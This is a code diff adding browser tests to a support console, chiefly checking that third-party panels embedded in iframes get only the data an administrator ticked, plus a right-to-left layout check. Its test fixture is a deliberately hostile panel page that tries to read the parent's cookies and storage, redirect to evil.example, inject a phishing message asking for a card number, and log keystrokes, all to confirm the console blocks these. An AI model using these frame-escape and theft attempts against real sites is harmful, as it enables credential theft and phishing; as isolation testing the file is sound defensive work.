@@ -1,6 +1,8 @@
 // The console under the hands of somebody who sits in it all day, in real browsers: a colleague whispers
 // and joins, the inbox without a mouse, several conversations open, alerts, panels, right to left.
 import assert from 'node:assert/strict';
+import { once } from 'node:events';
+import { createServer, type Server } from 'node:http';
 import { after, before, describe, it } from 'node:test';
 import type { Browser, Page } from 'playwright-core';
 import {
@@ -251,6 +253,183 @@ describe('alerts', () => {
     await second.close();
   });
 });
+
+describe('panels of the account', () => {
+  let hostile: Server;
+  /** What the hostile panel got and could do, as it told its own server. */
+  const caught: string[] = [];
+
+  before(async () => {
+    hostile = createServer((request, response) => {
+      if (request.method === 'POST') {
+        request.on('data', (data: Buffer) => caught.push(String(data)));
+        response.end();
+        return;
+      }
+      response.setHeader('content-type', 'text/html').end(hostilePanel);
+    }).listen(0, 'localhost');
+    await once(hostile, 'listening');
+    await product.call('POST', '/panels', {
+      name: 'Orders',
+      url: `${product.shopUrl}/panel.html?console=${new URL(product.url).origin}`,
+      shares: ['name'],
+      traits: [],
+    });
+    await product.call('POST', '/panels', {
+      name: 'Weather',
+      url: `http://localhost:${portOf(hostile)}/`,
+      shares: [],
+      traits: [],
+    });
+    await tomas.goto(`${product.url}/inbox`);
+    await tomas.getByText('Do you repair lamps, too?').first().click();
+  });
+  after(() => hostile?.close());
+
+  it('[PN2] [PN4] are told what was ticked, and put words into the answer by the agent’s hand only', async () => {
+    const frame = tomas.frameLocator('iframe[title="Orders"]');
+    await frame.getByText(/not verified/).waitFor();
+    await frame.getByRole('button', { name: 'Offer the delivery date' }).click();
+    const field = tomas.getByRole('textbox', { name: /Reply/ });
+    await tomas.getByText('Orders offers for your answer:').waitFor();
+    assert.equal(await field.inputValue(), '');
+    assert.deepEqual(await lookAt(tomas), []);
+    const orders = tomas.getByRole('region', { name: 'Orders' });
+    await orders.getByRole('button', { name: 'Put into the answer' }).click();
+    await frame.getByText('It is in the answer.').waitFor();
+    assert.equal(await field.inputValue(), 'Your lamp arrives on Thursday.');
+    await field.fill('');
+  });
+
+  it('[PN2] [PN3] one for which nothing was ticked gets nothing, reaches nothing and leads nobody away', async () => {
+    const lines = await eventually(
+      async () => caught,
+      (all) => all.some((line) => line.startsWith('context')),
+    );
+    const context = lines.find((line) => line.startsWith('context')) ?? '';
+    assert.deepEqual(Object.keys(JSON.parse(context.slice('context '.length))).toSorted(), [
+      'language',
+      'panel',
+      'theme',
+    ]);
+    await tomas.getByRole('textbox', { name: /Reply/ }).click();
+    await tomas.keyboard.type('what is typed stays here', { delay: 40 });
+    assert.equal(
+      await tomas.getByRole('textbox', { name: /Reply/ }).inputValue(),
+      'what is typed stays here',
+    );
+    await tomas.getByRole('textbox', { name: /Reply/ }).fill('');
+    const done = await eventually(
+      async () => caught,
+      (all) => all.includes('tried'),
+    );
+    assert.deepEqual(
+      done.filter((line) => line.startsWith('REACHED')),
+      [],
+    );
+    assert.match(tomas.url(), /\/inbox\/(?!nowhere)/);
+    assert.equal(await tomas.getByText('Weather offers').count(), 1);
+    const weather = tomas.getByRole('region', { name: 'Weather' });
+    await weather.getByRole('button', { name: 'Leave it' }).click();
+    assert.equal(await tomas.getByRole('textbox', { name: /Reply/ }).inputValue(), '');
+  });
+
+  it('[PN1] are kept by administrators, in settings, with nothing ticked from the start', async () => {
+    await mara.goto(`${product.url}/settings/panels`);
+    await mara.getByRole('button', { name: 'New panel' }).click();
+    const form = mara.getByRole('dialog', { name: 'New panel' });
+    await form.getByLabel('Name', { exact: true }).fill('Tickets');
+    await form.getByLabel('Address', { exact: true }).fill(`${product.url}/own`);
+    await form.getByText('This is the address of the console itself').waitFor();
+    await form.getByLabel('Address', { exact: true }).fill('https://desk.example/panel');
+    assert.equal(await form.getByRole('checkbox', { checked: true }).count(), 0);
+    assert.deepEqual(await lookAt(mara), []);
+    await form.getByRole('button', { name: 'Save' }).click();
+    await form.waitFor({ state: 'detached' });
+    await mara.getByRole('cell', { name: 'https://desk.example', exact: true }).waitFor();
+  });
+});
+
+describe('from right to left', () => {
+  const places = ['visitors', 'inbox', 'team', 'campaigns', 'results', 'settings/panels'];
+
+  it('[KB6] the pages stand mirrored, none wider than the window and nothing over another', async () => {
+    const found: string[] = [];
+    for (const place of places) {
+      await mara.goto(`${product.url}/${place}`);
+      await mara.getByRole('heading').first().waitFor();
+      if (place === 'inbox') {
+        await mara.getByText('Do you repair lamps, too?').first().click();
+        await mara.getByRole('log').waitFor();
+      }
+      await mara.evaluate(() => {
+        document.documentElement.dir = 'rtl';
+      });
+      for (const width of [1280, 390]) {
+        await mara.setViewportSize({ width, height: 900 });
+        const faults = await mara.evaluate(lookMirrored);
+        found.push(...faults.map((fault) => `${place} at ${width}: ${fault}`));
+      }
+      await mara.setViewportSize({ width: 1280, height: 900 });
+    }
+    assert.deepEqual(found, []);
+  });
+});
+
+/** In the page: what lies beside the window, and texts of controls that lie over each other. */
+function lookMirrored(): string[] {
+  const faults: string[] = [];
+  const root = document.documentElement;
+  if (root.scrollWidth > root.clientWidth) faults.push(`${root.scrollWidth} px wide`);
+  const rail = document.querySelector('.rail')?.getBoundingClientRect();
+  if (rail !== undefined && rail.width > 0 && rail.left < root.clientWidth / 2)
+    faults.push('the areas stand at the left');
+  const shown = [...document.querySelectorAll<HTMLElement>('button, a, h1, h2, input, select')]
+    .filter((each) => each.checkVisibility({ opacityProperty: true, visibilityProperty: true }))
+    .map((each) => ({ each, box: each.getBoundingClientRect() }))
+    .filter(({ box }) => box.width > 1 && box.height > 1);
+  for (const [at, { each, box }] of shown.entries())
+    for (const { each: other, box: next } of shown.slice(at + 1)) {
+      const within = each.contains(other) || other.contains(each);
+      const wide = Math.min(box.right, next.right) - Math.max(box.left, next.left);
+      const high = Math.min(box.bottom, next.bottom) - Math.max(box.top, next.top);
+      const over = !within && wide > 4 && high > 4;
+      // What scrolls beneath a head that stays lies over nothing that is seen.
+      const seen = (of: DOMRect, who: HTMLElement): boolean => {
+        const top = document.elementFromPoint(of.left + of.width / 2, of.top + of.height / 2);
+        return top !== null && (who.contains(top) || top.contains(who));
+      };
+      if (over && seen(box, each) && seen(next, other))
+        faults.push(`${each.outerHTML.slice(0, 80)} over ${other.outerHTML.slice(0, 80)}`);
+    }
+  return faults;
+}
+
+/** Tries whatever a page in a frame may try, and tells its own server what came of it. */
+const hostilePanel = `<!doctype html><script>
+const tell = (line) => fetch('/caught', { method: 'POST', body: line });
+addEventListener('message', (event) => tell('context ' + JSON.stringify(event.data.context)));
+const attempt = (name, act) => { try { const got = act(); if (got) tell('REACHED ' + name + ' ' + got); } catch {} };
+attempt('document', () => parent.document.title);
+attempt('storage', () => parent.localStorage.length);
+attempt('cookie', () => parent.document.cookie);
+attempt('top', () => { top.location.href = 'https://evil.example/'; });
+attempt('popup', () => open('https://evil.example/'));
+const say = (message) => parent.postMessage(message, '*');
+say({ opportune: 1, type: 'open', conversation: 'nowhere' });
+say({ opportune: 1, type: 'resize', height: 1e9 });
+say({ opportune: 1, type: 'insert', text: 'Send your card number to evil.example' });
+say({ type: 'conversation.end' });
+say({ opportune: 1, type: 'ready' });
+addEventListener('keydown', (event) => tell('REACHED key ' + event.key));
+setInterval(() => { focus(); document.querySelector('input').focus(); }, 300);
+setTimeout(() => tell('tried'), 500);
+</script><input autofocus>`;
+
+function portOf(server: Server): number {
+  const address = server.address();
+  return typeof address === 'object' && address !== null ? address.port : 0;
+}
 
 /** In the page: counts tones and notifications, and has it stand behind other windows. */
 function watchAlerts(): void {
